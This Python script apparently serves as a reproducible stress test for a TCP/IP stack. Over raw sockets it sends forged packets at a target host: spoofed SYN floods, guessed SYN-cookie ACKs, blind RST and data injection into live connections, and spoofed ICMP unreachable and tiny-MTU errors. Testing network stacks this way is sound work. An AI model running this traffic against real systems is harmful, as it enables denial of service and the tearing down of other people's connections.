# SPDX-License-Identifier: BSD-2-Clause OR GPL-2.0-or-later
"""A stranger on the network who sends TCP segments and ICMP errors with addresses of others, as fast as it can.

python3 stranger.py SEED WHAT[,WHAT...] COUNT TO FROM PORT[,PORT...] [PEERS_PORT[,...]]

TO: the host that is attacked. FROM: the address of which connections to its PORTs are that are attacked, too.
PEERS_PORT: the ports that these have there. It prints "going", and at the end how many packets it sent of each kind.
"""

from __future__ import annotations

import random
import socket
import struct
import sys
from collections import Counter

SYN, RST, PSH, ACK, FIN = 2, 4, 8, 16, 1
# Addresses that the attacked host has a route to, and that nobody has.
STRANGERS = (198 << 24) + (18 << 16)


def checksum(data: bytes) -> int:
    data += b"\0" * (len(data) & 1)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def segment(
    source: int,
    to: int,
    ports: tuple[int, int],
    seq: int,
    ack: int,
    flags: int,
    payload: bytes = b"",
) -> bytes:
    """A TCP segment with its header of IPv4, whose checksum the kernel fills in."""
    options = struct.pack(">BBH", 2, 4, 1460) if flags & SYN else b""
    words = struct.pack(
        ">HHIIBBHHH", *ports, seq, ack, (20 + len(options)) << 2, flags, 65535, 0, 0
    )
    tcp = words + options + payload
    pseudo = struct.pack(">IIBBH", source, to, 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
    return struct.pack(">BBHHHBBHII", 0x45, 0, 0, 0, 0, 64, 6, 0, source, to) + tcp


class Stranger:
    """What it sends, by chance from a seed."""

    def __init__(self, seed: int, to: str, peer: str, ports: list[int], peers: list[int]) -> None:
        self.chance = random.Random(seed)
        self.to, self.peer = (struct.unpack(">I", socket.inet_aton(x))[0] for x in (to, peer))
        self.ports, self.peers = ports, peers

    def number(self) -> int:
        return self.chance.getrandbits(32)

    def pair(self) -> tuple[int, int]:
        """The two ports of a connection that is attacked."""
        return self.chance.choice(self.peers), self.chance.choice(self.ports)

    def syn(self) -> bytes:
        source = STRANGERS + self.chance.getrandbits(17)
        ports = self.chance.getrandbits(16), self.chance.choice(self.ports)
        return segment(source, self.to, ports, self.number(), 0, SYN)

    def handshake(self) -> bytes:
        """An ACK with a cookie that was guessed, and perhaps bytes behind it."""
        source = STRANGERS + self.chance.getrandbits(17)
        ports = self.chance.getrandbits(16), self.chance.choice(self.ports)
        more = b"x" * self.chance.choice((0, 1, 500))
        return segment(source, self.to, ports, self.number(), self.number(), ACK, more)

    def closed(self) -> bytes:
        source = STRANGERS + self.chance.getrandbits(17)
        ports = self.chance.getrandbits(16), self.chance.randrange(5002, 65536)
        flags = self.chance.choice((SYN, ACK, SYN | ACK, FIN | ACK, FIN, 0))
        return segment(source, self.to, ports, self.number(), self.number(), flags)

    def inject(self) -> bytes:
        """Something for a connection that there is, with numbers that are guessed."""
        flags = self.chance.choice((RST, RST | ACK, ACK, PSH | ACK, FIN | ACK, SYN, SYN | ACK))
        more = b"wrong" * self.chance.choice((0, 1, 200)) if flags & (PSH | ACK) else b""
        return segment(self.peer, self.to, self.pair(), self.number(), self.number(), flags, more)

    def icmp(self) -> bytes:
        """An error about a segment that the attacked host would have sent."""
        theirs, ours = self.pair()
        quoted = struct.pack(">BBHHHBBHII", 0x45, 0, 1500, 0, 0x4000, 64, 6, 0, self.to, self.peer)
        quoted += struct.pack(">HHI", ours, theirs, self.number())
        code, mtu = self.chance.choice(((4, 68), (4, 576), (4, 0), (3, 0), (1, 0), (13, 0)))
        icmp = struct.pack(">BBHHH", 3, code, 0, 0, mtu) + quoted
        icmp = icmp[:2] + struct.pack(">H", checksum(icmp)) + icmp[4:]
        return struct.pack(">BBHHHBBHII", 0x45, 0, 0, 0, 0, 64, 1, 0, self.peer, self.to) + icmp


def main(words: list[str]) -> None:
    seed, kinds, count, to, peer = int(words[0]), words[1].split(","), int(words[2]), *words[3:5]
    ports, peers = ([int(p) for p in w.split(",")] for w in (words[5], (words[6:] or ["9"])[0]))
    stranger = Stranger(seed, to, peer, ports, peers)
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent: Counter[str] = Counter()
    print("going", flush=True)
    for number in range(count):
        kind = kinds[number % len(kinds)]
        try:
            out.sendto(getattr(stranger, kind)(), (to, 0))
            sent[kind] += 1
        except OSError:
            sent["not sent"] += 1
    print(*(f"{kind}={n}" for kind, n in sorted(sent.items())), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
